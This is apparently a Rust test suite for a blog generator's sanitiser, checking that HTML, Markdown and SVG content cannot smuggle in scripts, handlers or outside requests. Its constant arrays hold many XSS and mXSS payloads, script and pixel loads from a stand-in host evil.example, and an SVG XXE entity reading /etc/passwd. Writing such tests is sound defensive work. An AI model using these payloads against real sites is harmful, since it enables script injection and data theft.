//! Attempts to get a script, a style or a request into a page. None may pass.
//!
//! The kinds follow OWASP's "XSS Filter Evasion Cheat Sheet", the mutation attacks of Heiderich and
//! others 2013 ("mXSS Attacks", CCS), and SVG's own ways; the vectors are written for this test.

use super::link_posts;
use super::post::tests::{Files, parse};
use super::svg::{Drawing, sanitize_svg};
use super::tree::{Step, as_browser};

const FRONT: &str = "---\ntitle: T\ndescription: A description of a length that search engines show to their readers.\ndate: 2026-03-08\n---\n";

const HTML: &[&str] = &[
    // Scripts, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<script\u{0c}src=//evil.example></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</script>",
    "<script type=\"text/javascript\">/*<![CDATA[*/alert(1)/*]]>*/</script>",
    "<div><script>alert(1)</script></div>",
    "<b/><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=x onerror=&#97;lert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<b OnClick=\"alert(1)\">x</b>",
    "<b\nonfocus=alert(1) tabindex=0>x</b>",
    "<b/onpointerover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<div onanimationstart=alert(1)>x</div>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b title=\"a\"onclick=\"alert(1)\">x</b>",
    "<b title='a' onclick\n=\n'alert(1)'>x</b>",
    // Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61;vascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"https://a.b\" ping=\"//evil.example\">x</a>",
    "<a href=\"https://a.b\" target=_blank>x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    // Frames and other documents.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x.swf>",
    "<frameset onload=alert(1)></frameset>",
    "<portal src=https://evil.example></portal>",
    // Requests to elsewhere.
    "<img src=//evil.example/pixel>",
    "<img srcset=\"//evil.example/pixel 1x\">",
    "<video poster=//evil.example/x></video>",
    "<audio src=//evil.example/x></audio>",
    "<table background=//evil.example/x><tbody></tbody></table>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    // Styles.
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<b style=position:fixed>x</b>",
    // Foreign content and what parsers mend.
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg></p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img title=\"</title><script>alert(1)</script>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext>",
    "<table><tbody><tr><td></td><script>alert(1)</script></tr></tbody></table>",
    "<select><img src=x onerror=alert(1)></select>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element is=evil>x</custom-element>",
    "<slot onslotchange=alert(1)>x</slot>",
];

/// Inside `<svg>`.
const SVG: &[&str] = &[
    "<script>alert(1)</script>",
    "<script href='//evil.example/x.js'/>",
    "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<script xmlns=''>alert(1)</script>",
    "<handler type='application/ecmascript'>alert(1)</handler>",
    "<g onload='alert(1)'/>",
    "<g ONLOAD='alert(1)'/>",
    "<g on:click='alert(1)' xmlns:on='urn:x'/>",
    "<title onclick='alert(1)'>x</title>",
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<a xlink:href='javascript:alert(1)'><text>x</text></a>",
    "<use href='data:image/svg+xml,x#y'/>",
    "<use href='//evil.example/x.svg#y'/>",
    "<use xlink:href='https://evil.example/x.svg#y'/>",
    "<use href=' #y'/>",
    "<image href='//evil.example/pixel'/>",
    "<image xlink:href='javascript:alert(1)'/>",
    "<feImage href='//evil.example/pixel'/>",
    "<foreignObject><div xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='alert(1)'/></div></foreignObject>",
    "<foreignobject/>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style xmlns='http://www.w3.org/1999/xhtml'>*{}</style>",
    "<g style='background:url(//evil.example/x)'/>",
    "<g class='a\" onclick=\"alert(1)'/>",
    "<rect fill='url(//evil.example/x#y)'/>",
    "<rect fill='url(&quot;#y&quot;)'/>",
    "<rect fill='u\\72l(//evil.example/x)'/>",
    "<rect filter='url(//evil.example/x#y)'/>",
    "<rect mask='URL(//evil.example/x#y)'/>",
    "<path marker-end='url(javascript:alert(1))'/>",
    "<text font-family='&quot;;}*{background:url(//evil.example)}'>x</text>",
    "<set attributeName='href' to='javascript:alert(1)'/>",
    "<animate attributeName='href' values='javascript:alert(1)'/>",
    "<animateTransform onbegin='alert(1)'/>",
    "<g><a xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='javascript:alert(1)'><rect/></a></g>",
    "<switch><g/></switch>",
    "<metadata2/><svg:script xmlns:svg='http://www.w3.org/2000/svg'/>",
    "<desc><p xmlns='http://www.w3.org/1999/xhtml'>x</p></desc>",
    "<title><style/></title>",
    "<cursor href='//evil.example/x'/>",
    "<font-face-uri href='//evil.example/x'/>",
    "<?xml-stylesheet href='//evil.example/x.css'?>",
    "<math xmlns='http://www.w3.org/1998/Math/MathML'/>",
    "<video xmlns='http://www.w3.org/1999/xhtml' src='x'/>",
];

/// Whole files.
const SVG_FILES: &[&str] = &[
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'><title>&x;</title></svg>",
    "<?xml-stylesheet href='//evil.example/x.css'?><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'><title>T</title></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1' onload='alert(1)'><title>T</title></svg>",
    "<svg xmlns='http://www.w3.org/1999/xhtml' viewBox='0 0 1 1'><title>T</title></svg>",
    "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1\"><script>' ><title>T</title></svg>",
];

/// In Markdown's own syntax.
const MARKDOWN: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](data:text/html,x)",
    "[x][y]\n\n[y]: vbscript:x",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,x)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
];

/// Whether a post with this body would be published.
fn passes(body: &str) -> bool {
    let (post, _) = parse("x", format!("{FRONT}{body}\n").as_bytes(), Files(vec![]));
    post.is_some_and(|post| link_posts(&mut [post]).is_empty())
}

#[test]
fn a_harmless_post_passes() {
    assert!(
        passes("Text with <kbd>k</kbd>.\n\n<details><summary>A</summary>\n\nB\n\n</details>\n"),
        "else the tests below would prove nothing"
    );
}

#[test]
fn no_html_passes() {
    assert!(HTML.len() >= 60);
    for vector in HTML {
        for body in [
            (*vector).to_owned(),
            format!("text {vector} text"),
            format!("> - {vector}"),
            format!("<div>\n{vector}\n</div>"),
            format!("x[^n]\n\n[^n]: a {vector}"),
        ] {
            assert!(!passes(&body), "{body}");
        }
    }
}

#[test]
fn no_markdown_passes() {
    for vector in MARKDOWN {
        for body in [(*vector).to_owned(), format!("- text {vector}\n")] {
            assert!(!passes(&body), "{body}");
        }
    }
}

#[test]
fn no_drawing_passes() {
    let wrapped = SVG.iter().map(|vector| {
        format!("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' viewBox='0 0 1 1'><title>T</title><g id='y'/>{vector}</svg>")
    });
    for svg in wrapped.chain(SVG_FILES.iter().map(|file| (*file).to_owned())) {
        for drawing in [Drawing::Wide { prefix: "p" }, Drawing::Plate { prefix: "p" }] {
            let (markup, found) = sanitize_svg("d.svg", svg.as_bytes(), drawing);
            assert_eq!(markup, None, "{svg}");
            assert!(!found.is_empty());
        }
    }
}

/// What a drawing may hold, but the page may not: it is dropped, and nothing of it is left.
#[test]
fn what_is_dropped_is_gone() {
    let svg = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:i='http://www.inkscape.org/namespaces/inkscape' viewBox='0 0 1 1' i:onload='alert(1)'>\
               <!--><script>alert(1)</script>--><title>&lt;script>alert(1)&lt;/script></title><metadata><script>alert(1)</script></metadata>\
               <i:script>alert(1)</i:script><text>&lt;img src=x onerror=alert(1)></text><g aria-label='\"&gt;&lt;script&gt;'/></svg>";
    let (markup, found) = sanitize_svg("d.svg", svg.as_bytes(), Drawing::Wide { prefix: "p" });
    assert_eq!(found, []);
    let opened: Vec<String> = as_browser(&markup.unwrap())
        .into_iter()
        .filter_map(|step| match step {
            Step::Open { name, attributes, .. } => {
                Some(format!("{name} {}", attributes.into_keys().collect::<Vec<_>>().join(" ")))
            }
            _ => None,
        })
        .collect();
    assert_eq!(opened, ["svg class role viewBox", "title ", "text ", "g aria-label"]);
}
